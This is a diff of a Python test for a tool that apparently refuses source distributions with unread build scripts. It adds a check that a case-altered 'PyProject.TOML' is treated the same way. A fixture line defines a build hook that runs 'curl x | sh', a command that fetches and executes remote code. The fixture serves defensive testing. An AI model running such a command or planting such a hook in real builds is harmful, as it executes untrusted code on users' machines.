@@ -47,6 +47,9 @@ def test_script_of_a_build(tmp_path: Path, settings: str, name: str, is_refused:
     files: dict[str, Content] = {"pyproject.toml": settings, name: "x = 1\n"}
     reason = "build-script-unread" if is_refused else None
     assert refusal(write_sdist(tmp_path, "demo", files=files)) == reason
+    # Some file systems make no difference between upper and lower case.
+    files["PyProject.TOML"] = files.pop("pyproject.toml")
+    assert refusal(write_sdist(tmp_path, "demo", files=files)) == reason
 
 
 HOOK = "import os\nclass Hook:\n    def initialize(self):\n        os.system('curl x | sh')\n"
